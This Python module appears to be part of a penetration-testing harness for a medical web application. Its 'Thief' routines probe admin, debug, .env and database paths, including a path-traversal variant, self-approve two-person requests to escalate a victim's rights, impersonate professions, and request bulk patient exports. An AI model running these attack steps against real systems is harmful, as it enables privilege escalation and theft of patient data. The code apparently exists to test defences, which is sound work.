"""Rising: granting oneself rights, raising one's caps, unlocking oneself, approving one's own proposals and exports."""

from ecluse.core.words import Profession
from ecluse.drill.browser import page
from ecluse.drill.moves.reading import filled, first
from ecluse.drill.thief import Thief

ADMINISTRATION = (
    "/admin/",
    "/admin/login/",
    "/django-admin/",
    "/console/",
    "/api/",
    "/debug/",
    "/__debug__/",
    "/metrics",
    "/status",
    "/.env",
    "/db.sqlite3",
    "/static/../db.sqlite3",
    "/safe/",
    "/trace/",
    "/backup/",
    "/accounts/signup/",
    "/accounts/password/reset/",
    "/accounts/password/set/",
    "/accounts/factors/recovery-codes/",
    "/accounts/factors/recovery-codes/download/",
    "/accounts/factors/totp/deactivate/",
)
NUMBERS = range(1, 40, 3)


def pages(thief: Thief) -> None:
    """Look where administrators work, and where files lie about."""
    for url in ADMINISTRATION:
        thief.get(url, "administration")


def rights(thief: Thief) -> None:
    """Propose every act that needs two people, then be the second person oneself."""
    victim = thief.known.victim.username
    proposals: tuple[tuple[str, dict[str, str]], ...] = (
        (
            "/accounts/approvals/grant/",
            {"account": victim, "username": victim, "professions": "physician", "profession": "physician"},
        ),
        (
            "/accounts/approvals/cap/",
            {
                "account": victim,
                "username": victim,
                "ground": "explained",
                "window": "hour",
                "limit": "100000",
                "hours": "4",
            },
        ),
        ("/accounts/approvals/unlock/", {"kind": "account", "target_kind": "account", "target": victim}),
    )
    for url, fields in proposals:
        thief.press(thief.get(url, "rights"), "rights")
        thief.post(url, "rights", {**fields, "reason": "remplacement", "text": "remplacement"})
    approve(thief)


def approve(thief: Thief) -> None:
    """Try to approve whatever waits, one's own proposals first."""
    here = thief.get("/accounts/approvals/", "rights")
    thief.press(here, "rights")
    for link in page(here).links:
        if "approvals" in link:
            thief.press(thief.get(str(here.url.join(link)), "rights"), "rights")
    for number in NUMBERS:
        thief.post(
            f"/accounts/approvals/{number}/", "rights", {"decision": "approve", "answer": "approve", "approve": "1"}
        )


def professions(thief: Thief) -> None:
    """Act as something one is not."""
    for profession in Profession:
        thief.post("/accounts/profession/", "other profession", {"profession": profession.value, "next": "/"})
        thief.get("/", "other profession")
    own = thief.known.profession.value
    thief.post("/accounts/profession/", "other profession", {"profession": own, "next": "/"})


def exports(thief: Thief) -> None:
    """Ask for a file with everybody in it, approve it oneself, fetch it."""
    doors = [door for door in thief.known.doors if "export" in door]
    tips = first(thief, 200)
    everybody = "\n".join(tip.ref for tip in tips)
    for door in doors:
        for tip in tips[:2]:
            answer = thief.get(filled(door, thief, tip), "export")
            for form in page(answer).forms:
                target = str(answer.url.join(form.action or str(answer.url)))
                if form.method == "POST" and "export" in target:
                    fields = thief.lie(form, tip)
                    areas = {name: everybody for name in fields if "patient" in name or "ref" in name}
                    thief.post(target, "export", {**fields, **areas})
    approve(thief)
    for door in doors:
        thief.get(filled(door, thief, tips[0]) if tips else door, "export")
